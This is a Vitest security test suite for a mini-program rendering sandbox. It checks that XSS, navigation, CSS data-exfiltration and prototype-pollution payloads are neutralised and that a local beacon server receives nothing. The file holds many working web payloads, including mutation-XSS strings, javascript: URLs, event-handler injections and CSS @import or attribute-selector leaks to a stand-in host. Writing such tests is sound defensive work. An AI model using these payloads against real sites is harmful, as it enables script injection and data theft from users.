import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, expect, test } from 'vitest'
import { useStages } from '../../../../testkit/miniPrograms/useStages.ts'
import { endOf, hostile } from './hostileProgram.ts'

// Markup, styles and addresses of a program that would run something in the frame, lead it elsewhere or tell somebody.

const stages = useStages()

/** A server of somebody else's: whatever it hears was let out. */
const heard: string[] = []
const other = createServer((request, response) => {
  heard.push(request.url ?? '')
  response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
})
await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve))
afterAll(() => void other.close())
const site = `127.0.0.1:${(other.address() as AddressInfo).port}`
const elsewhere = `http://${site}/beacon`
const drawing = `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="parent.ran=1;top.ran=1"><script>parent.ran=1;top.ran=1;new Image().src="${elsewhere}-svg"</script><image href="${elsewhere}-svg-image" width="9" height="9"/></svg>`)}`
const html = [
  '<script>globalThis.ran = 1</script>',
  '<img src=x onerror="globalThis.ran = 1">',
  '<svg onload="globalThis.ran = 1"><script>globalThis.ran = 1</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.ran=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.ran=1>">',
  `<iframe srcdoc="<script>parent.ran = 1;new RTCPeerConnection()</script>"></iframe><iframe src="javascript:parent.ran=1"></iframe>`,
  `<object data="${elsewhere}-object"></object><embed src="${elsewhere}-embed"><link rel="stylesheet" href="${elsewhere}-link"><meta http-equiv="refresh" content="0;url=${elsewhere}-meta"><base href="${elsewhere}-base">`,
  `<form action="${elsewhere}-form"><button id="send" formaction="javascript:globalThis.ran=1">x</button><input autofocus onfocus="globalThis.ran=1"></form>`,
  '<a id="away" href="javascript:globalThis.ran=1" target="_top" ping="/beacon-ping">away</a>',
  `<p style="background:url(${elsewhere}-rich);behavior:url(${elsewhere}-behavior);-moz-binding:url(${elsewhere}-binding)">styled</p>`,
  `<img src="${drawing}"><img srcset="${elsewhere}-srcset 1x"><video src="${elsewhere}-video" onerror="globalThis.ran=1"></video><audio src="${elsewhere}-audio"></audio>`,
  '<details open ontoggle="globalThis.ran=1"><summary>x</summary></details><template><script>globalThis.ran=1</script></template>',
]

const addresses = [
  'javascript:globalThis.ran=1',
  'data:text/html,<script>globalThis.ran=1</script>',
  'blob:null/1',
  `${elsewhere}-address`,
  `//${site}/beacon-slashes`,
]

const styles = `
@import url("${elsewhere}-import");
@import "${elsewhere}-import-text";
@font-face { font-family: leak; src: url("${elsewhere}-font.woff"); }
@namespace other url("${elsewhere}-namespace");
.x { background: url(${elsewhere}-plain); cursor: url(${elsewhere}-cursor), auto; }
.x { background: u\\72 l("${elsewhere}-escaped"); background-image: image-set("${elsewhere}-set" 1x); list-style-image: src("${elsewhere}-src"); }
.x { font-family: leak; mask: url(${elsewhere}-mask#x); filter: url("${elsewhere}-filter#x"); clip-path: url("${elsewhere}-clip#x"); }
.x::before { content: url(${elsewhere}-content) attr(data-secret url); }
input[value^="a"] { background: url(${elsewhere}-typed); }
html, .mp-stage, .mp-page { display: none !important; }
.plain { background: url(${elsewhere}-own) }
:host { position: fixed; inset: -9999px; z-index: 2147483647; }
`

test('nothing of it runs, leads elsewhere or is asked of anybody', async () => {
  const stage = await stages.open(
    hostile(
      '',
      '',
      `<view class="plain">plain</view><view class="x" data-secret="s">styled</view><rich-text wx:for="{{html}}" wx:key="*this" nodes="{{item}}"/><rich-text nodes="{{nodes}}"/>
<view wx:for="{{addresses}}" wx:key="*this"><image src="{{item}}"/><cover-image src="{{item}}"/><video src="{{item}}" poster="{{item}}"/><navigator id="n{{index}}" url="{{item}}">to</navigator><web-view wx:if="{{index > 9}}" src="{{item}}"/></view>
<view id="inline" style="background:url({{addresses[3]}}-inline)">inline</view><input value="a"/>
<view onclick="globalThis.ran=1" onmouseover="globalThis.ran=1" href="javascript:globalThis.ran=1" srcdoc="<script>1</script>">attributes</view>
<view id="{{'"><img src=x onerror=globalThis.ran=1>'}}" class="{{'"><script>globalThis.ran=1</script>'}}">{{'<img src=x onerror=globalThis.ran=1>'}}</view>`,
      {
        'a.js': `const act = require('./hostile.js')
Page({ data: { html: ${JSON.stringify(html)}, nodes: ${JSON.stringify([
          { name: 'script', children: [{ type: 'text', text: 'globalThis.ran=1' }] },
          { name: 'img', attrs: { src: 'javascript:globalThis.ran=1', onerror: 'globalThis.ran=1' } },
          { name: 'iframe', attrs: { srcdoc: '<script>parent.ran=1</script>' } },
          {
            name: 'a',
            attrs: { href: 'javascript:globalThis.ran=1', style: `background:url(${elsewhere}-node)` },
            children: [{ type: 'text', text: 'x' }],
          },
          { name: 'p', attrs: { constructor: 'x', __proto__: 'y', 'xlink:href': 'javascript:1' } },
        ])}, addresses: ${JSON.stringify(addresses)} }, go() { act.call(this) } })`,
        'a.wxss': styles,
        'app.wxss': styles,
      },
    ),
  )
  const asked: string[] = []
  const windows: string[] = []
  stage.page.on('request', (request) => asked.push(request.url()))
  stage.page.context().on('page', (page) => windows.push(page.url()))
  stage.page.on('download', (download) => windows.push(download.url()))
  stage.page.on('dialog', (dialog) => {
    windows.push(dialog.message())
    void dialog.dismiss()
  })
  const address = stage.page.url()
  const frame = await stage.open()
  await frame.getByText('attributes').waitFor({ state: 'attached' })
  for (const id of ['n0', 'n1', 'n2', 'n3', 'n4']) await frame.locator(`#${id}`).dispatchEvent('click')
  await frame.getByText('away').first().dispatchEvent('click')
  await frame.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))))

  expect(await frame.evaluate(() => Reflect.get(globalThis, 'ran'))).toBeUndefined()
  expect(await stage.page.evaluate(() => Reflect.get(globalThis, 'ran'))).toBeUndefined()
  expect(stage.page.url()).toBe(address)
  expect(frame.url()).toContain('/mp/frame.html')
  expect(windows).toEqual([])
  // Pictures, films and fonts of the web are asked of the app's own server, which asks where the program may.
  await expect
    .poll(() => asked.some((url) => url.includes('beacon-own') && url.startsWith(`${address}pictures/`)))
    .toBe(true)
  expect(heard).toEqual([])
  const made = await frame
    .locator('.mp-content')
    .first()
    .evaluate((content) => {
      const all = [...content.querySelectorAll('*')]
      const names = all.flatMap((one) => one.getAttributeNames())
      const source = (one: Element) => one.getAttribute('src') ?? ''
      return {
        tags: [...new Set(all.map((one) => one.localName))],
        names: [...new Set(names)],
        sources: all.map(source),
      }
    })
  for (const tag of 'script iframe object embed link meta base math form template'.split(' '))
    expect(made.tags).not.toContain(tag)
  expect(
    made.names.filter((name) => /^on|^(srcdoc|href|xlink:href|srcset|ping|action|formaction|data)$/.test(name)),
  ).toEqual([])
  expect(
    made.sources.filter((source) => !/^$|^(data|blob):/.test(source) && !source.startsWith(`${address}pictures/`)),
  ).toEqual([])
  expect(made.tags.length).toBeGreaterThan(10)
  // What a page's styles say of the frame around it changes nothing there.
  const shown = await frame.evaluate(() =>
    [document.documentElement, ...document.querySelectorAll('.mp-stage, .mp-page')].map(
      (one) => getComputedStyle(one).display,
    ),
  )
  expect(shown.length).toBeGreaterThanOrEqual(3)
  expect(shown).not.toContain('none')
  expect(await endOf(stage)).toBeUndefined()
})

test('control: a picture of the web is shown by the proxy, and what is let out or run would be seen', async () => {
  const stage = await stages.open(hostile('', '', `<image id="web" src="http://127.0.0.1:9/a.png"/>`))
  const frame = await stage.open()
  await expect
    .poll(() =>
      frame.locator('#web img').evaluate((picture) => picture instanceof HTMLImageElement && picture.naturalWidth),
    )
    .toBe(400)
  await stage.page.evaluate((address) => fetch(address).then((answer) => answer.status), elsewhere)
  expect(heard).toEqual(['/beacon'])
  heard.length = 0
  await frame.evaluate(() => Object.assign(globalThis, { ran: 1 }))
  expect(await frame.evaluate(() => Reflect.get(globalThis, 'ran'))).toBe(1)
})

test('names of prototypes are names like others: in data, events, storage, WXS and messages', async () => {
  const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__']
  const stage = await stages.open(
    hostile(
      `
const names = ${JSON.stringify(names)}
for (const name of names) { wx.setStorageSync(name, name); if (wx.getStorageSync(name) !== name) console.log('LOST ' + name) }
for (const name of names) way('a call ' + name, () => new Promise((yes, no) => { const made = wx[name]; typeof made === 'function' && name.startsWith('x') ? yes('x') : no() }))
toldAfter(() => {
  let number = 5000
  for (const name of names) {
    number += 1
    const mine = number
    way('a forged call ' + name, () => call(mine, name, {}).then(({ result }) => result !== undefined && 'answered'))
    way('a forged permission ' + name, () => call(mine + 1000, 'member.authorize', { scope: name }).then(({ error }) => error === undefined && 'allowed'))
    for (const kind of ['tell', 'ask', 'load', 'asked', 'answer']) say.call(port(), { kind, name, id: name, scripts: [name], styles: [name], detail: { [name]: 1 } })
    g.postMessage({ kind: 'ask', id: mine, name, args: null })
    g.postMessage({ kind: 'tell', name, args: { [name]: { polluted: 'yes' } } })
    g.postMessage({ kind: 'operations', operations: [1, mine + 800000, name, 2, mine + 810000, name, '', 16, mine + 800000, name, { polluted: 'yes' }, 18, mine + 800000, name, 1, 20, mine + 800000, name] })
  }
  say.call(port(), JSON.parse('{"kind":"tell","name":"error","detail":{"__proto__":{"polluted":"yes"},"message":"m","stack":"s"}}'))
})`,
      '',
      `<wxs module="m">
var made = {}
module.exports = {
  kind: function (x) { return x.constructor + '' },
  way: function () { try { return '' + made.constructor.constructor('return 1')() } catch (e) { return 'refused' } },
  proto: function () { made.__proto__.polluted = 'yes'; return typeof made.polluted },
}
</wxs><view id="wxs">{{m.kind(1)}} {{m.way()}} {{m.proto()}}</view>`,
    ),
  )
  const frame = await stage.open()
  await expect.poll(() => stage.console.find((line) => line.includes('OUT ')), { timeout: 20_000 }).toBeDefined()
  const line = stage.console.find((one) => one.includes('OUT ')) ?? ''
  const outcomes = JSON.parse(line.slice(line.indexOf('OUT ') + 4)) as Record<string, string>
  expect(Object.entries(outcomes).filter(([, outcome]) => outcome !== 'refused')).toEqual([])
  expect(stage.console.filter((one) => one.includes('LOST'))).toEqual([])
  expect(await frame.locator('#wxs').textContent()).toMatch(/^Number refused/)
  for (const where of [frame, stage.page.mainFrame()]) {
    expect(await where.evaluate(() => [Reflect.get({}, 'polluted'), Reflect.get(Function, 'polluted')])).toEqual([
      undefined,
      undefined,
    ])
  }
  expect(await endOf(stage)).toBeUndefined()
})
